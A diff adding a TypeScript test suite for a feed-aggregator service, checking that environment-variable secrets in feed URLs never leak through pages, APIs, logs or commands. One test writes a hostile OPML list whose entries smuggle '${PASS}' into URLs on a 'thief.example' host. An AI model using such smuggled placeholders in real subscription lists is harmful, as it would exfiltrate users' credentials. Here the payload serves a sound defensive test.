@@ -1,0 +1,128 @@
+import { readFileSync, writeFileSync } from 'node:fs'
+import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest'
+import { type FeedHost, startFeedHost } from '../ingest/feed-host.ts'
+import { item, openWorkplace, rss, service, type Workplace } from './workplace.ts'
+
+// Processes are started, which takes its time on a busy machine.
+vi.setConfig({ testTimeout: 90_000, hookTimeout: 30_000 })
+
+const env = { PAID: 'k3y-öf-subscriber', PASS: 'p4ss-w0rd', PLACE: 's3cret-path' }
+/** However an address spells them. */
+const VALUES = [env.PAID, encodeURIComponent(env.PAID), 'f-subscriber', env.PASS, env.PLACE]
+const expectNone = (text: string, where: string): void => {
+  for (const value of VALUES) expect(text.includes(value), `${where} tells ${value}:\n${text}`).toBe(false)
+}
+
+let host: FeedHost
+let place: Workplace
+let sources: string
+beforeEach(async () => {
+  host = await startFeedHost()
+  place = openWorkplace()
+  place.write('polywire.yaml', service([host.host], 'stories: all\n'))
+  sources = `sources:
+  - { id: paid, name: Paid, url: "http://reader:\${PASS}@${host.host}/\${PLACE}/feed?u=\${PAID}", site: "http://${host.host}/?u=\${PAID}" }
+  - { id: torn, name: Torn, url: "http://${host.host}/\${PLACE}/torn" }
+  - { id: away, name: Away, url: "http://${host.host}/\${PLACE}/away" }
+`
+  place.write('sources.yaml', sources)
+  const relative = '<item><guid>r</guid><link>read/1</link><title>A relative report of the marketplace</title></item>'
+  const self = `<atom:link xmlns:atom="http://www.w3.org/2005/Atom" rel="self" href="http://${host.host}/${env.PLACE}/feed"/>`
+  host.show(
+    `/${env.PLACE}/feed?u=${encodeURIComponent(env.PAID)}`,
+    rss([item('1'), relative], self).replace('https://desk.example/<', `http://${host.host}/${env.PLACE}/home<`),
+  )
+  host.show(`/${env.PLACE}/torn`, `No such key: ${env.PLACE}`, 'text/plain')
+  host.behave(`/${env.PLACE}/away`, (response) => void response.writeHead(301, { location: `/${env.PLACE}/none` }).end())
+})
+afterEach(async () => {
+  await place.clear()
+  await host.close()
+})
+
+describe('what an address has from the environment', () => {
+  test('is told by no page, feed, list, log or header of a running service', async () => {
+    const served = place.start(['serve'], { env: { ...env, POLYWIRE_LISTEN: '127.0.0.1:0', POLYWIRE_LOG_LEVEL: 'trace' } })
+    const url = /http:\/\/127\.0\.0\.1:\d+/.exec(await served.line(/"event":"started"/))?.[0] ?? ''
+    for (const id of ['paid', 'torn', 'away']) await served.line(new RegExp(`poll.*"source":"${id}"`))
+    const { data: articles } = (await (await fetch(`${url}/api/v1/articles`)).json()) as { data: { story: string }[] }
+    expect(articles).toHaveLength(2)
+    const story = `/stories/${articles[0]?.story}`
+    for (const path of [
+      ...['atom', 'rss', 'json'].flatMap((ending) => [`/feeds/all.${ending}?group=article`, `/feeds/health.${ending}`]),
+      '/',
+      story,
+      '/sources',
+      '/feeds',
+      '/feeds.opml',
+      '/about',
+      '/search?q=marketplace',
+      '/metrics',
+      '/readyz',
+      ...['sources', 'articles', 'stories', 'status', 'feeds'].map((list) => `/api/v1/${list}`),
+    ]) {
+      const answer = await fetch(`${url}${path}`)
+      expect({ path, status: answer.status }).toEqual({ path, status: 200 })
+      expectNone((await answer.text()) + JSON.stringify([...answer.headers]), path)
+    }
+    served.child.kill('SIGTERM')
+    const { out, err } = await served.ended
+    expectNone(out + err, 'the log')
+    expect(host.asked.map(({ headers }) => headers['user-agent']).join(' ')).not.toContain(env.PASS)
+    expect(host.asked.some(({ headers }) => headers.authorization !== undefined)).toBe(true)
+  })
+
+  test('is told by no command', async () => {
+    for (const args of [
+      ['once'],
+      ['once', '--all', '--json'],
+      ['try', 'paid'],
+      ['try', 'paid', '--json'],
+      ['try', 'torn'],
+      ['try', 'away'],
+      ['explain', 'https://desk.example/1'],
+      ['explain', 'https://desk.example/1', '--json'],
+      ['check'],
+      ['export-opml'],
+    ]) {
+      const { out, err, code } = await place.run(args, { env })
+      expect({ args, code, silent: out + err === '' }).not.toMatchObject({ code: 2 })
+      expect(out + err).not.toBe('')
+      expectNone(out + err, args.join(' '))
+    }
+  })
+
+  test('goes out and in again as it is written', async () => {
+    const { out } = await place.run(['export-opml'], { env })
+    expect(out).toContain(`xmlUrl="http://reader:\${PASS}@${host.host}/\${PLACE}/feed?u=\${PAID}"`)
+    expect(out).toContain(`htmlUrl="http://${host.host}/?u=\${PAID}"`)
+    writeFileSync(place.path('list.opml'), out)
+    expect((await place.run(['import-opml', '--replace', place.path('list.opml')], { env })).out).toContain('3 there already')
+    expect(readFileSync(`${place.config}/sources.yaml`, 'utf8')).toBe(sources)
+    place.write('sources.yaml', 'sources: []\n')
+    const list = place.path('list.opml')
+    expect(await place.run(['import-opml', '--variables', list], { env: { PASS: 'x', PLACE: 'y' } })).toMatchObject({
+      code: 2,
+      err: expect.stringContaining('the environment variable PAID is not set'),
+    })
+    expect((await place.run(['import-opml', '--variables', list], { env })).out).toContain('3 sources added')
+    expect((await place.run(['export-opml'], { env })).out).toBe(out)
+  })
+
+  test('is not asked for by a list of somebody else’s', async () => {
+    const before = readFileSync(`${place.config}/sources.yaml`, 'utf8')
+    const outline = (attributes: string): string => `<outline type="rss" ${attributes}/>`
+    const list = [
+      outline('text="A" xmlUrl="https://thief.example/?token=${PASS}"'),
+      outline('text="${PASS}" xmlUrl="https://thief.example/title"'),
+      outline('text="B" xmlUrl="https://thief.example/site" htmlUrl="https://thief.example/${PASS}"'),
+      outline('text="C" xmlUrl="${PASS}"'),
+    ]
+    writeFileSync(place.path('list.opml'), `<opml version="2.0"><body>\n${list.join('\n')}\n</body></opml>`)
+    const { code, err } = await place.run(['import-opml', place.path('list.opml')], { env })
+    expect(code).toBe(0)
+    for (const line of [2, 3, 4, 5])
+      expect(err).toContain(`list.opml:${line}:1: left out: it reads \${PASS} from the environment, as only a list of your own`)
+    expect(readFileSync(`${place.config}/sources.yaml`, 'utf8')).toBe(before)
+  })
+})
